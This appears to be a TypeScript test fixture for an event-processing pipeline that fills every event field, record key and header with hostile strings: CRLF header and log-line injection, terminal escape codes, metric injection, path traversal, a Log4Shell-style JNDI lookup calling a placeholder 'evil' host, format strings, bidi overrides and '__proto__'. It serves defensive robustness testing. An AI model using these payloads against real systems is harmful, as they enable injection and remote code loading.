// Texts that mean something to whoever shows, stores or forwards them, in every field that an event has.
import type { SourceRecord } from '../../src/ports/event-source.ts'
import { ArrayEventSource, ArrayTopic } from './array-event-source.ts'

export const hostileTexts = {
  'a header': '\r\nsessionloom-reason: none\r\n\r\nevil',
  'a log line': '\n{"level":50,"msg":"evil"}\n',
  'orders to a terminal': '\x1b[2J\x1b]0;evil\x07\x1b[31m\x9b31m',
  'a metric': 'evil"} 1\nsessionloom_records_total{outcome="evil"} 9\n#',
  'a path': '../../../../etc/evil\0.txt',
  'an index name': '../_all/evil,*,-Evil',
  'a look-up': '$' + '{jndi:ldap://evil} {{evil}} %s%n',
  'another direction': '\u202eevil\u2066\u2028',
  'a prototype': '__proto__',
} as const

const noon = Date.UTC(2026, 10, 24, 12)

/** An event with the text wherever a text may stand; most of them are taken. */
export function eventOf(text: string, number: number): object {
  const keyed = { [`k${text.replaceAll('\0', '')}`]: text, nested: { deep: [text] } }
  return {
    eventId: `${number}${text}`,
    tabId: `${number}${text}`,
    type: text.slice(0, 64),
    timestamp: noon + number,
    query: text,
    site: text,
    profile: { id: text, primaryId: text, metadata: keyed },
    context: {
      ip: text,
      userAgent: text,
      clientHints: { platform: text, 'Sec-CH-UA': text },
      locale: text,
      timeZone: text,
      channel: text,
      aux: keyed,
      page: { url: text, title: text, referrer: text },
      screen: { colorDepth: text.slice(0, 16), orientation: text },
      utm: { source: text, medium: text, campaign: text, term: text, content: text },
      app: { type: text, name: text, version: text, language: text },
      geo: { country: { name: text, code: text.slice(0, 16) }, city: text, latitude: text.slice(0, 32) },
    },
    properties: keyed,
    traits: keyed,
    aux: keyed,
  }
}

/** The same with one field that makes it a dead letter, for each of the ways to become one. */
function brokenOf(text: string, number: number): (object | string)[] {
  const event = eventOf(text, number)
  return [
    { ...event, tabId: text.repeat(200) },
    { ...event, timestamp: text },
    { ...event, value: text },
    { ...event, properties: text },
    { ...event, traits: { [text.repeat(100)]: 1 } },
    { ...event, context: { [text]: text, page: text } },
    `{"eventId": "${text}`,
    JSON.stringify(text),
  ]
}

/** A log of all of it, with hostile keys and headers of its records, in one partition. */
export function hostileLog(): { topic: ArrayTopic; source: ArrayEventSource } {
  const topic = new ArrayTopic(1)
  for (const [i, text] of Object.values(hostileTexts).entries())
    for (const value of [eventOf(text, i), ...brokenOf(text, i)]) {
      topic.append(0, typeof value === 'string' ? value : JSON.stringify(value), noon)
      const record = topic.partitions[0]?.at(-1) as { -readonly [K in keyof SourceRecord]: SourceRecord[K] }
      record.key = Buffer.from(text)
      record.headers = Object.fromEntries([
        [text, Buffer.from(text)],
        ['sessionloom-reason', Buffer.from(text)],
      ])
    }
  return { topic, source: new ArrayEventSource(topic, () => 7) }
}
